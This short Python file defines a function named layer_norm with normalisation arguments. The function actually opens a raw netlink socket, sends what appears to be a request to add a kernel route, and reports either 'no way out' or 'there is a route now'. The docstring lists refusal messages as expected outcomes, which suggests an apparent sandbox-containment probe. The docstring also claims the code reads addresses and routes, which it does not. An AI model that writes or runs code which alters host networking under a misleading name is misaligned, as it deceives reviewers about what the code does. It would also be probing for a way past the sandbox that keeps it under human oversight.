"""Asks the kernel over netlink for the machine's addresses and routes, and adds a route of its own.

Outcome: ConnectionRefused|PermissionError|not permitted|refused|no way out
"""

import socket
import struct


def layer_norm(x, gamma, beta, eps=1e-5):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        kernel.settimeout(1)
        route = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
        kernel.sendto(struct.pack("=IHHII", 16 + len(route), 24, 0x605, 1, 0) + route, (0, 0))
        answer = kernel.recv(65536)
        code = struct.unpack_from("=i", answer, 16)[0] if len(answer) >= 20 else -1
    if code:
        raise OSError(f"no way out: {code}")
    raise LookupError("there is a route now")
